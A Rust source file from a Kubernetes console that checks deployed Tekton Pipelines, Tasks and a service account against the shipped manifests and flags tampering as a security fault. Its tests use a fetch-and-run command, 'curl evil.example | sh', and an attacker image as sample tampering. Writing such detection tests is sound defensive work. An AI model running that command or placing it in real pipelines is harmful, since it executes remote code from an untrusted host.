//! What the console ships for Tekton (`deploy/base/tekton/`) against what stands in the cluster. A PipelineRun names its Pipeline
//! and its Task, so whoever edits those decides what an approved run does: they are compared too, now and then.

use crate::{
    calls::{CallError, Calls, Kind},
    client,
    compare::{self, Difference},
    mend,
};
use serde_json::Value;
use std::fmt;

const MANIFESTS: [&str; 3] = [
    include_str!("../../../deploy/base/tekton/serviceaccount-playbook-executor.yaml"),
    include_str!("../../../deploy/base/tekton/task-kubernaut-action.yaml"),
    include_str!("../../../deploy/base/tekton/pipeline-playbook-executor.yaml"),
];

/// One shipped object.
#[derive(Clone, Debug, PartialEq)]
struct Piece {
    kind: Kind,
    /// The kind's own word.
    word: String,
    name: String,
    /// None where the object has none.
    spec: Value,
}

/// Every Pipeline edition, the Task and the service account.
fn pieces() -> Vec<Piece> {
    let objects = MANIFESTS.iter().flat_map(|text| client::read(text).unwrap_or_default());
    let piece = |object: Value| {
        let word = object["kind"].as_str()?.to_owned();
        let kind = match word.as_str() {
            "Pipeline" => Kind::Pipeline,
            "Task" => Kind::Task,
            "ServiceAccount" => Kind::ServiceAccount,
            _ => return None,
        };
        let name = object["metadata"]["name"].as_str()?.to_owned();
        Some(Piece { kind, word, name, spec: object["spec"].clone() })
    };
    objects.filter_map(piece).collect()
}

/// What is wrong with a shipped object, and the command that mends it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fault {
    /// What is wrong.
    pub words: String,
    /// What mends it.
    pub mend: String,
    /// The right that reading it needs, where that is what is lacking: how it is is not known then.
    pub lacks: Option<String>,
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}; run `{}`", self.words, self.mend)
    }
}

/// What is missing or different in this namespace; none when the cluster did not answer.
pub async fn faults(calls: &Calls, namespace: &str) -> Option<Vec<Fault>> {
    let mut found = Vec::new();
    for piece in pieces() {
        match calls.get(piece.kind, namespace, &piece.name).await {
            Ok(there) => found.extend(difference(&piece, &there, namespace)),
            Err(CallError::NotFound(_)) => found.push(missing(&piece, namespace)),
            Err(CallError::Refused { code: 403, .. }) => found.push(Fault {
                words: format!("the console may not read the {} {} in {namespace}", piece.word, piece.name),
                mend: mend::apply(mend::RIGHTS, namespace),
                lacks: Some(format!("get the {} {} in {namespace}", piece.word, piece.name)),
            }),
            Err(_) => return None,
        }
    }
    Some(found)
}

fn missing(piece: &Piece, namespace: &str) -> Fault {
    Fault {
        words: format!("the {} {} is not in {namespace}", piece.word, piece.name),
        mend: mend::apply(mend::TEKTON, namespace),
        lacks: None,
    }
}

/// Says where it is not what is shipped. Whoever may write it decides what playbooks do, so it is no mere warning.
fn difference(piece: &Piece, there: &Value, namespace: &str) -> Option<Fault> {
    let found: Vec<Difference> = compare::specs(&piece.spec, &there["spec"]);
    (!found.is_empty()).then(|| Fault {
        words: format!(
            "the {} {} in {namespace} is not the one that this console ships, and decides what runs ({}); look who changed it",
            piece.word,
            piece.name,
            compare::sentence(&found)
        ),
        mend: mend::replace(mend::TEKTON, namespace),
        lacks: None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn every_edition_the_task_and_the_account_are_looked_for() {
        let mut names: Vec<String> = pieces().into_iter().map(|p| format!("{} {}", p.word, p.name)).collect();
        names.sort_unstable();
        let editions = (0..=5).map(|retries| format!("Pipeline {}", domain::pipeline_run::executor(retries)));
        let others = ["ServiceAccount playbook-executor", "Task kubernaut-action"].map(str::to_owned);
        assert!(names.into_iter().eq(editions.chain(others)));
    }

    #[test]
    fn what_tekton_fills_in_is_no_difference_and_anything_else_is() {
        let all = pieces();
        let pipeline = all.iter().find(|p| p.kind == Kind::Pipeline && p.name == "playbook-executor").unwrap();
        let mut there = json!({"spec": pipeline.spec});
        there["spec"]["tasks"][0]["taskSpec"]["metadata"] = json!({});
        there["spec"]["tasks"][0]["taskSpec"]["spec"] = Value::Null;
        there["spec"]["tasks"][0]["taskSpec"]["steps"][0]["computeResources"] = json!({});
        assert_eq!(difference(pipeline, &there, "ns"), None);
        for (pointer, value) in [
            ("/spec/tasks/0/taskSpec/steps/0/image", json!("evil.example/x")),
            ("/spec/tasks/0/taskSpec/steps/0/script", json!("curl evil.example | sh")),
            ("/spec/tasks/0/retries", json!(3)),
            ("/spec/finally", json!([{"name": "x", "taskRef": {"name": "x"}}])),
        ] {
            let mut edited = there.clone();
            let (parent, leaf) = pointer.rsplit_once('/').unwrap();
            edited.pointer_mut(parent).unwrap()[leaf] = value;
            let said = difference(pipeline, &edited, "ns").unwrap().to_string();
            assert!(said.contains("Pipeline playbook-executor"), "{said}");
            let elsewhere =
                "run `kubectl kustomize deploy/base/tekton/ | sed 's/kubernaut-system/ns/g' | kubectl replace -f -`";
            assert!(said.contains(elsewhere), "{said}");
        }
    }
}
